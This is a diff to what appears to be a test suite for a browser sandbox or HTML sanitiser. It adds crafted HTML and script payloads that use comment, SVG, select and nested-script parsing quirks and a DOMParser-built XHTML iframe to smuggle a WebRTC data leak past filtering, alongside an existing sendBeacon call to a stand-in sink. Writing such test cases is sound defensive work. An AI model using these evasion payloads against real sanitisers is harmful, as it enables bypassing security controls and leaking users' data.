@@ -676,6 +676,30 @@ FRAMES = [
     _script("beacon", "navigator.sendBeacon('@SINK/beacon','x')", fires=True),
     _script("webrtc", _RTC),
     _html("webrtc-inner-frame", _frame(f"<script>{_RTC}</script>")),
+    _html("webrtc-comment", f"<!-- <script> -->{_frame(f'<script>{_RTC}</script>')}"),
+    _html("webrtc-no-comment", f"<!--> <script> -->{_frame(f'<script>{_RTC}</script>')}</script>"),
+    _html("webrtc-attribute", f"<b\xa0x='<script>'>{_frame(f'<script>{_RTC}</script>')}</script>"),
+    _html(
+        "webrtc-foreign",
+        "<svg><desc><div></svg></div></desc><script><desc>"
+        + _frame(f"<script>{_RTC}</script>")
+        + "</desc></script></svg>",
+    ),
+    _html(
+        "webrtc-select",
+        "<select><title><!-- </title><script>-->" + _frame(f"<script>{_RTC}</script>"),
+    ),
+    _html(
+        "webrtc-escaped-script",
+        f"<script><!--<script></script>{_frame(f'<script>{_RTC}</script>')}--></script>"
+        f"{_frame(f'<script>{_RTC}</script>')}",
+    ),
+    _script(
+        "webrtc-xml-frame",
+        'd=new DOMParser().parseFromString(\'<x:iframe xmlns:x="http://www.w3.org/1999/xhtml"'
+        f' srcdoc="{html_module.escape("<script>" + _RTC + "</script>").replace("&", "&amp;")}"/>\''
+        ".replace(/&amp;/g,'&'),'application/xhtml+xml');document.body.append(d.documentElement)",
+    ),
     _script(
         "webrtc-made-frame",
         "f=document.createElement('iframe');f.srcdoc='<script>"
